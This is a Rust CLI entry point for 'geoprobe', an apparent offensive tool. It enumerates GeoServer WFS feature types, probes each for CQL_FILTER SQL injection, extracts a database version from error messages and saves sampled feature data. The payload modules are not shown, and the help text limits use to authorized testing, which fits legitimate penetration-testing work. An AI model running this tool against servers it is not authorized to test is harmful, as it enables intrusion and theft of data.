// Main CLI entry point for geoprobe
// Uses clap for argument parsing

use clap::{Arg, Command};
use geoprobe::models::decode_capabilities;
use geoprobe::oracle::OracleConfig;
use geoprobe::reporting::{export_csv, export_markdown};
use geoprobe::scanner::{probe_feature_type, ScanOptions};
use geoprobe::transport::{capabilities_url, HttpFetch, ProbeClient, TransportConfig};
use reqwest::Url;
use std::path::PathBuf;
use std::time::Duration;

#[tokio::main]
async fn main() {
    let matches = Command::new("geoprobe")
        .version("0.1.0")
        .about("GeoServer WFS catalog recon and CQL_FILTER SQL injection probe")
        .after_help("EXAMPLES:\n  geoprobe http://target:8080\n  geoprobe https://target --insecure http://127.0.0.1:8080\n\nOnly run against targets you are authorized to test.")
        .arg(Arg::new("url")
            .required(true)
            .num_args(1)
            .help("Base URL of the target GeoServer instance"))
        .arg(Arg::new("proxy")
            .num_args(1)
            .help("Optional HTTP(S) proxy URL to route requests through"))
        .arg(Arg::new("insecure")
            .long("insecure")
            .action(clap::ArgAction::SetTrue)
            .help("Skip TLS certificate verification (for self-signed test targets)"))
        .arg(Arg::new("max_features")
            .long("max-features")
            .num_args(1)
            .default_value("1000")
            .help("Maximum number of features to sample per feature type"))
        .arg(Arg::new("output_dir")
            .long("output-dir")
            .num_args(1)
            .default_value("output/databases")
            .help("Directory for saved feature collections"))
        .arg(Arg::new("version_offset")
            .long("version-offset")
            .num_args(1)
            .default_value("96")
            .help("Character offset of the leaked value within the driver's cast-error line"))
        .arg(Arg::new("csv_report")
            .long("csv-report")
            .action(clap::ArgAction::SetTrue)
            .help("Write a CSV report of scan results"))
        .arg(Arg::new("markdown_report")
            .long("markdown-report")
            .action(clap::ArgAction::SetTrue)
            .help("Write a Markdown report of scan results"))
        .get_matches();

    let raw_url = matches.get_one::<String>("url").expect("url is required");
    let proxy = matches.get_one::<String>("proxy").cloned();
    let insecure = matches.get_flag("insecure");
    let csv_report = matches.get_flag("csv_report");
    let markdown_report = matches.get_flag("markdown_report");

    let max_features: usize = matches
        .get_one::<String>("max_features")
        .and_then(|s| s.parse().ok())
        .filter(|n| *n > 0)
        .unwrap_or_else(|| {
            eprintln!("--max-features must be a positive integer");
            std::process::exit(2);
        });
    let version_offset: usize = matches
        .get_one::<String>("version_offset")
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| {
            eprintln!("--version-offset must be a non-negative integer");
            std::process::exit(2);
        });
    let output_dir = PathBuf::from(
        matches
            .get_one::<String>("output_dir")
            .expect("output_dir has a default"),
    );

    // A malformed target URL is the one input that prevents everything
    // downstream, so it is fatal.
    let parsed_url = Url::parse(raw_url).unwrap_or_else(|e| {
        eprintln!("Invalid target URL {}: {}", raw_url, e);
        std::process::exit(1);
    });
    let host = parsed_url.host_str().unwrap_or_else(|| {
        eprintln!("Target URL {} has no host", raw_url);
        std::process::exit(1);
    });
    let endpoint = raw_url.trim_end_matches('/').to_string();

    let transport = TransportConfig {
        insecure,
        proxy,
        timeout: Duration::from_secs(30),
    };
    let client = ProbeClient::new(&transport).unwrap_or_else(|e| {
        eprintln!("Failed to build HTTP client: {}", e);
        std::process::exit(1);
    });

    // Capabilities are the root of the whole scan: failure here is fatal.
    let response = client
        .fetch(&capabilities_url(&endpoint))
        .await
        .unwrap_or_else(|e| {
            eprintln!("GetCapabilities request failed: {}", e);
            std::process::exit(1);
        });
    let capabilities = decode_capabilities(&response.body).unwrap_or_else(|e| {
        eprintln!("{}", e);
        std::process::exit(1);
    });

    println!("Schema Location: {}", capabilities.schema_location);
    println!("Service Name: {}", capabilities.service.name);
    println!(
        "Service Online Resource: {}",
        capabilities.service.online_resource
    );
    for name in capabilities.feature_type_names() {
        println!("Feature Type: {}", name);
    }
    println!();
    println!("Fetching collections and probing CQL_FILTER injection...");

    let options = ScanOptions {
        max_features,
        output_dir,
        oracle: OracleConfig {
            value_offset: version_offset,
        },
    };

    let mut reports = Vec::new();
    for name in capabilities.feature_type_names() {
        if name.is_empty() {
            eprintln!("[SKIP] feature type with empty name");
            continue;
        }
        let report = probe_feature_type(&client, &endpoint, host, name, &options).await;
        println!("[FETCH] {}: {}", report.type_name, report.fetch);
        println!("[VERSION] {}: {}", report.type_name, report.extraction);
        reports.push(report);
    }

    if csv_report {
        match export_csv(&reports) {
            Ok(filename) => println!("CSV report written to {}", filename),
            Err(e) => eprintln!("Failed to write CSV report: {}", e),
        }
    }
    if markdown_report {
        match export_markdown(&reports) {
            Ok(filename) => println!("Markdown report written to {}", filename),
            Err(e) => eprintln!("Failed to write Markdown report: {}", e),
        }
    }
}
